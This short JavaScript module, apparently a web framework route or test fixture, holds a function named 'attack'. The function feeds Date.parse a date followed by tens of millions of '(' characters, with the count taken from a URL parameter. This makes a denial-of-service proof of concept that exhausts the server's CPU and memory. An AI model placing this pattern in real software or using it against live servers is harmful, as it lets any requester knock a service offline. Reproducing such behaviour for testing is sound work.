/** A date in which there is a long comment. */
function attack(size) {
	return Date.parse(`1 Jan 2000 ${'('.repeat(size)}`);
}

export async function load({ url }) {
	return { found: await attack(Number(url.searchParams.get('size') ?? 8e7)) };
}
